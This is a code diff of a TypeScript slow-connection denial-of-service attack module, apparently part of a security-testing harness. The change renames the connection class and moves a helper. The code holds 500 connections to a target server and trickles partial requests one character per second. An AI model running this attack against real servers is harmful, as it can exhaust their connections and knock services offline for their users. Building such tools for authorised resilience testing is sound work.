@@ -1,7 +1,8 @@
 // Attack by slow connections: 500 of them, each opened again as soon as the server cuts it.
+import { pause } from "../../processes.ts"
 import { bearer, get, head } from "../../threats/requests.ts"
 import { type Attack, roundRobin, type Target } from "./Attack.ts"
-import { pause, type Report, RawConnection } from "./RawConnection.ts"
+import { AttackConnection, type Report } from "./AttackConnection.ts"
 
 /** Concurrent connections. */
 const connections = 500
@@ -25,9 +26,9 @@ const slowRequests: readonly [SlowRequest, ...ReadonlyArray<SlowRequest>] = [
 /** Holds one connection until the server ends it. */
 const holdConnection = async (victim: Target, report: Report, turn: number) => {
   const { first, rest } = roundRobin(slowRequests, turn)(victim)
-  const wire = new RawConnection(victim.port, report)
+  const wire = new AttackConnection(victim.port, report)
   if (first !== "") await wire.write(first)
-  for (let at = 0; at < 120 && !wire.isClosed; at++) {
+  for (let at = 0; at < 120 && !wire.hasEnded; at++) {
     await pause(1_000)
     if (at < rest.length) await wire.write(rest.charAt(at))
   }
